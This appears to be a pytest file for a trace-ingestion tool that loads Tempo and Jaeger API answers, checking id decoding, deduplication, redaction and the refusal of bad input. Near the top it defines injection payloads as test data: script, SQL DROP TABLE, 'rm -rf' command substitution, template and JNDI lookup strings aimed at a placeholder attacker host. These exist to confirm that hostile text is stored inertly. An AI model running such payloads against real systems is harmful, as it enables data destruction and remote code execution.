"""`afterfix ingest` of the trace documents Tempo's and Jaeger's query APIs answer.

The fixtures in tests/data/ follow the documented answers: Tempo `GET /api/traces/<id>`
(`{"batches": [...]}`, base64 ids, enum names, an older batch with instrumentationLibrarySpans),
Tempo `/api/v2/traces/<id>` (`{"trace": {"resourceSpans": [...]}}`), Jaeger api_v3
(`{"result": {"resourceSpans": [...]}}`, hex ids, integer enums) and a Jaeger error answer.
"""

from __future__ import annotations

import base64
import shutil
from pathlib import Path

import orjson
import pytest

from afterfix import cli
from afterfix.ingest import foreign
from afterfix.ingest.files import ingest_paths
from afterfix.ingest.rows import Bad

DATA = Path(__file__).resolve().parents[1] / "data"
T1, T2 = "5b8efff798038103d269b633813fc60c", "00a1c27e0f9d4b3e8c5a6d7e8f901234"
HOSTILE_NAME = "execute_tool <script>alert(1)</script>\x1b[2J'; DROP TABLE spans;--"
HOSTILE_ARGS = '{"cmd": "$(rm -rf ~)", "q": "{{7*7}}", "x": "${jndi:ldap://attacker/a}"}'

# (trace_id, span_id, parent_span_id, kind, status_code, service_name, name) of trace T1 in every fixture
T1_SPANS = {
    (T1, "eee19b7ec3c1b173", None, "INTERNAL", "UNSET", "sre-agent", "invoke_agent night-shift"),
    (T1, "1a2b3c4d5e6f7081", "eee19b7ec3c1b173", "CLIENT", "OK", "sre-agent", "chat gpt-4o"),
    (T1, "9c8d7e6f5a4b3c2d", "eee19b7ec3c1b173", "INTERNAL", "ERROR", "sre-agent", "execute_tool kubectl_rollout_restart"),
    (T1, "0f1e2d3c4b5a6978", "eee19b7ec3c1b173", "INTERNAL", "UNSET", "sre-agent", HOSTILE_NAME),
    (T1, "aa00bb11cc22dd33", "9c8d7e6f5a4b3c2d", "SERVER", "ERROR", "kube-tools", "PATCH apps/v1 deployments"),
}
T2_SPANS = {
    (T2, "3141592653589793", None, "INTERNAL", "UNSET", "sre-agent", "invoke_agent night-shift"),
    (T2, "2718281828459045", "3141592653589793", "CLIENT", "OK", "sre-agent", "chat gpt-4o"),
}
SPAN_SQL = ("SELECT trace_id, span_id, parent_span_id, kind, status_code, service_name, name FROM spans "
            "ORDER BY trace_id, span_id")


def spans_of(store) -> set[tuple]:
    return {tuple(None if v != v else v for v in row) for row in store.query(SPAN_SQL).itertuples(index=False)}


def copy(name: str, tmp_path: Path, as_name: str | None = None) -> Path:
    dest = tmp_path / "in" / (as_name or name)
    dest.parent.mkdir(exist_ok=True)
    shutil.copy(DATA / name, dest)
    return dest


@pytest.mark.parametrize("name, expected", [
    ("tempo_trace.json", T1_SPANS),
    ("tempo_v2_trace.json", T2_SPANS),
    ("jaeger_trace.json", T1_SPANS),
    ("jaeger_search.json", T1_SPANS | T2_SPANS),
])
def test_a_saved_answer_is_stored_with_the_hex_ids_kinds_and_statuses_of_its_source(store, tmp_path, name, expected):
    summary = ingest_paths(store, [copy(name, tmp_path)])
    assert summary.refused == []
    assert summary.spans_stored == len(expected)
    assert spans_of(store) == expected


def test_attributes_events_and_genai_columns_come_through(store, tmp_path):
    ingest_paths(store, [copy("tempo_trace.json", tmp_path)])
    row = store.query(f"SELECT status_message, operation, tool_name, attributes FROM spans "
                      f"WHERE span_id = '9c8d7e6f5a4b3c2d'").iloc[0]
    assert row.status_message == 'deployments.apps "cart" not found'
    assert (row.operation, row.tool_name) == ("execute_tool", "kubectl_rollout_restart")
    assert orjson.loads(row.attributes)["error.type"] == "NotFound"
    chat = orjson.loads(store.query("SELECT attributes FROM spans WHERE span_id = '1a2b3c4d5e6f7081'").iloc[0, 0])
    assert chat["gen_ai.usage.input_tokens"] == 812  # intValue as a decimal string, read as a number
    ev = store.query("SELECT name, attributes FROM events WHERE span_id = '9c8d7e6f5a4b3c2d'").iloc[0]
    assert ev["name"] == "exception" and "not found" in orjson.loads(ev["attributes"])["exception.message"]


def test_hostile_text_is_stored_verbatim(store, tmp_path):
    ingest_paths(store, [copy("jaeger_trace.json", tmp_path)])
    row = store.query("SELECT name, attributes FROM spans WHERE span_id = '0f1e2d3c4b5a6978'").iloc[0]
    assert row["name"] == HOSTILE_NAME
    assert orjson.loads(row["attributes"])["gen_ai.tool.call.arguments"] == HOSTILE_ARGS
    assert int(store.query("SELECT count(*) FROM spans").iloc[0, 0]) == 5  # the DROP TABLE was text


def test_ingesting_again_stores_nothing_twice(store, tmp_path):
    path = copy("tempo_trace.json", tmp_path)
    ingest_paths(store, [path])
    again = ingest_paths(store, [path])
    assert (again.unchanged, again.spans_stored) == (1, 0)
    # the same trace from Jaeger (hex ids where Tempo had base64) is the same spans
    other = ingest_paths(store, [copy("jaeger_trace.json", tmp_path)])
    assert (other.spans_stored, other.duplicates) == (0, 5)


def test_a_document_rewritten_in_place_is_read_whole_again(store, tmp_path):
    path = copy("tempo_v2_trace.json", tmp_path, "answer.json")
    ingest_paths(store, [path])
    with open(path, "r+b") as f:  # same file (inode), longer, and the same first bytes
        f.write((DATA / "tempo_trace.json").read_bytes())
    summary = ingest_paths(store, [path])
    assert summary.refused == []
    assert spans_of(store) == T1_SPANS | T2_SPANS


def test_redaction_applies_to_foreign_documents(store, tmp_path):
    doc = orjson.loads((DATA / "tempo_trace.json").read_bytes())
    attrs = doc["batches"][0]["scopeSpans"][0]["spans"][0]["attributes"]
    attrs.append({"key": "http.request.header.authorization",
                  "value": {"stringValue": "Bearer ghp_0123456789abcdefghijABCDEFGHIJ012345"}})
    path = tmp_path / "secret.json"
    path.write_bytes(orjson.dumps(doc, option=orjson.OPT_INDENT_2))
    summary = ingest_paths(store, [path])
    assert summary.redactions >= 1
    text = store.query("SELECT attributes FROM spans WHERE span_id = 'eee19b7ec3c1b173'").iloc[0, 0]
    assert "ghp_0123456789" not in text and "REDACTED" in text


# -- ids ------------------------------------------------------------------------------------------

ID_CASES = [
    # (value, bytes, expected hex)
    (T1, 16, T1),
    (T1.upper(), 16, T1),  # the opentelemetry-proto example writes upper-case hex
    (base64.b64encode(bytes.fromhex(T1)).decode(), 16, T1),
    (base64.b64encode(bytes.fromhex(T1)).decode().rstrip("="), 16, T1),  # padding left out
    (base64.urlsafe_b64encode(bytes.fromhex("fbff" * 8)).decode(), 16, "fbff" * 8),  # URL-safe alphabet
    ("d6e9329d67b6146a", 16, "0" * 16 + "d6e9329d67b6146a"),  # a 64-bit trace id, padded as Jaeger does
    (base64.b64encode(bytes.fromhex("d6e9329d67b6146a")).decode(), 16, "0" * 16 + "d6e9329d67b6146a"),
    ("eee19b7ec3c1b173", 8, "eee19b7ec3c1b173"),
    ("7uGbfsPBsXM=", 8, "eee19b7ec3c1b173"),
]


@pytest.mark.parametrize("value, size, expected", ID_CASES)
def test_ids_are_read_as_hex_or_base64(value, size, expected):
    assert foreign.hex_id(value, size, "traceId") == expected


@pytest.mark.parametrize("value, size", [
    ("xyz", 8),
    ("W47/95gDgQPSabYzgT/GDA==", 8),  # base64 of 16 bytes where 8 are needed
    ("AAAA", 16),  # base64 of 3 bytes
    ("5b8efff798038103d269b633813fc60", 16),  # 31 hex characters
    ("W47/95gD!QPSabYzgT/GDA==", 16),
])
def test_an_id_that_is_neither_is_refused_naming_both_forms(value, size):
    with pytest.raises(Bad, match=rf"is neither {2 * size} hex characters nor base64 of {size} bytes"):
        foreign.hex_id(value, size, "spanId")


# -- bad input ------------------------------------------------------------------------------------


def test_a_bad_span_is_refused_alone_with_its_json_path(store, tmp_path):
    doc = orjson.loads((DATA / "tempo_trace.json").read_bytes())
    doc["batches"][0]["scopeSpans"][0]["spans"][1]["spanId"] = "not-an-id"
    path = tmp_path / "bad.json"
    path.write_bytes(orjson.dumps(doc, option=orjson.OPT_INDENT_2))
    summary = ingest_paths(store, [path])
    assert [(r.location, r.reason) for r in summary.refused] == [
        ("batches[0].scopeSpans[0].spans[1]",
         'spanId "not-an-id" is neither 16 hex characters nor base64 of 8 bytes (a span id is 8 bytes)')]
    assert spans_of(store) == {s for s in T1_SPANS if s[1] != "1a2b3c4d5e6f7081"}
    q = store.query("SELECT source, location FROM quarantine").iloc[0]
    assert (q.source, q.location) == (str(path.resolve()), "batches[0].scopeSpans[0].spans[1]")


def test_a_cut_off_pretty_document_is_refused_whole_naming_the_file(store, tmp_path, capsys):
    text = (DATA / "tempo_trace.json").read_bytes()
    path = tmp_path / "cut.json"
    path.write_bytes(text[: len(text) // 2])
    code = cli.main(["ingest", "--store", str(store.root), str(path)])
    err = capsys.readouterr().err
    assert code == cli.EXIT_REFUSED
    first = err.splitlines()[0]
    assert first.startswith(f"{path.resolve()} document: the file is not valid JSON (")
    assert "was the download cut off? Fetch it again" in first
    assert int(store.query("SELECT count(*) FROM spans").iloc[0, 0]) == 0


@pytest.mark.parametrize("doc, message", [
    ({"error": {"httpCode": 404, "message": "trace not found"}},
     'the document is an error answer ("HTTP 404: trace not found"), not a trace: fetch the trace again'),
    ({"data": [{"traceID": T1, "spans": [], "processes": {}}], "total": 0, "errors": None},
     "the document is Jaeger's UI answer (/api/traces, Jaeger's own span model), not OTLP"),
    (orjson.loads((DATA / "tempo_search.json").read_bytes()), "the document is a Tempo search answer"),
    ({"spans": []}, 'the document is not a trace document (keys: "spans"); expected OTLP/JSON'),
    ({"batches": {"resource": {}}}, "batches is an object, not a list"),
])
def test_a_document_that_holds_no_trace_says_what_it_is(store, tmp_path, doc, message):
    path = tmp_path / "answer.json"
    path.write_bytes(orjson.dumps(doc, option=orjson.OPT_INDENT_2))
    summary = ingest_paths(store, [path])
    assert len(summary.refused) == 1
    assert summary.refused[0].location == "document"
    assert summary.refused[0].reason.startswith(message)


# -- files: documents and lines told apart by content --------------------------------------------


def test_lines_of_compact_answers_with_otlp_lines_among_them(store, tmp_path):
    tempo = orjson.loads((DATA / "tempo_trace.json").read_bytes())
    jaeger_v2 = orjson.loads((DATA / "tempo_v2_trace.json").read_bytes())
    otlp_line = {"resourceSpans": [{"resource": {"attributes": []}, "scopeSpans": [{"spans": [{
        "traceId": "ab" * 16, "spanId": "cd" * 8, "name": "plain otlp",
        "startTimeUnixNano": "1795747620000000000", "endTimeUnixNano": "1795747620500000000"}]}]}]}
    lines = [orjson.dumps(tempo), orjson.dumps(otlp_line), orjson.dumps(jaeger_v2),
             orjson.dumps({"error": {"httpCode": 500, "message": "storage down"}}), b'{"resourceSpans": [}']
    path = tmp_path / "mixed.jsonl"
    path.write_bytes(b"\n".join(lines) + b"\n")
    summary = ingest_paths(store, [path])
    assert spans_of(store) - T1_SPANS - T2_SPANS == {("ab" * 16, "cd" * 8, None, "UNSPECIFIED", "UNSET", None, "plain otlp")}
    assert sorted((r.location, r.reason[:40]) for r in summary.refused) == [
        ("line 4", 'the document is an error answer ("HTTP 5'),
        ("line 5", "the line is not valid JSON (unexpected c"),
    ]


def test_jaeger_streaming_answer_one_result_per_line(store, tmp_path):
    search = orjson.loads((DATA / "jaeger_search.json").read_bytes())
    rss = search["result"]["resourceSpans"]
    path = tmp_path / "stream.json"
    path.write_bytes(orjson.dumps({"result": {"resourceSpans": rss[:2]}}) + b"\n"
                     + orjson.dumps({"result": {"resourceSpans": rss[2:]}}) + b"\n")
    summary = ingest_paths(store, [path])
    assert summary.refused == []
    assert spans_of(store) == T1_SPANS | T2_SPANS


def test_a_pretty_printed_otlp_document_is_read(store, tmp_path):
    doc = orjson.loads((DATA / "jaeger_trace.json").read_bytes())["result"]
    path = tmp_path / "otlp-pretty.json"
    path.write_bytes(orjson.dumps(doc, option=orjson.OPT_INDENT_2))
    summary = ingest_paths(store, [path])
    assert summary.refused == [] and spans_of(store) == T1_SPANS


def test_a_list_of_documents_is_read(store, tmp_path):
    docs = [orjson.loads((DATA / n).read_bytes()) for n in ("tempo_trace.json", "tempo_v2_trace.json")]
    docs.append({"error": {"httpCode": 404, "message": "trace not found"}})
    path = tmp_path / "slurped.json"  # as `jq -s . a.json b.json` saves them
    path.write_bytes(orjson.dumps(docs, option=orjson.OPT_INDENT_2))
    summary = ingest_paths(store, [path])
    assert spans_of(store) == T1_SPANS | T2_SPANS
    assert [r.location for r in summary.refused] == ["[2]"]


def test_otlp_lines_with_a_broken_first_line_read_as_before(store, tmp_path):
    good = orjson.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [{
        "traceId": "ab" * 16, "spanId": "cd" * 8, "name": "ok", "startTimeUnixNano": "1795747620000000000",
        "endTimeUnixNano": "1795747620500000000"}]}]}]})
    path = tmp_path / "cut-first.jsonl"
    path.write_bytes(good[:30] + b"\n" + good + b"\n")  # a first line that opens an object and breaks
    summary = ingest_paths(store, [path])
    assert [r.location for r in summary.refused] == ["line 1"]
    assert summary.spans_stored == 1


@pytest.mark.parametrize("text, shape", [
    (b'{"resourceSpans": []}\n{"resourceSpans": []}\n', "lines"),
    (b'{"resourceSpans": []}\n{"batches": []}\n', "lines"),  # only the first line decides
    (b'{"batches": []}\n{"resourceSpans": []}\n', "answers"),
    (b'{"result": {"resourceSpans": []}}\n', "answers"),
    (b'{"error": {"httpCode": 404, "message": "trace not found"}}\n', "answers"),
    (b'{"trace": "not a trace"}\n', "lines"),
    (b"\xef\xbb\xbf\n\n{\n  \"batches\": []\n}\n", "pretty"),
    (b'{"batches": [\n  {"resource": {}}\n]}\n', "document"),
    (b'{"resourceSpans": [}\n', "document"),  # read whole, then as lines when it is not one value
    (b"[\n]\n", "pretty"),
    (b"garbage\n", "lines"),
    (b"", "lines"),
])
def test_sniff_tells_documents_from_lines_by_content(text, shape):
    assert foreign.sniff(text) == shape


def test_the_cli_ingests_every_fixture(tmp_path, capsys):
    store = tmp_path / "store"
    files = [str(copy(n, tmp_path)) for n in ("tempo_trace.json", "tempo_v2_trace.json", "jaeger_trace.json")]
    assert cli.main(["ingest", "--store", str(store), *files]) == cli.EXIT_OK
    out = capsys.readouterr().out
    assert out.startswith("3 files: 7 spans stored, 5 duplicates skipped, 0 records refused")

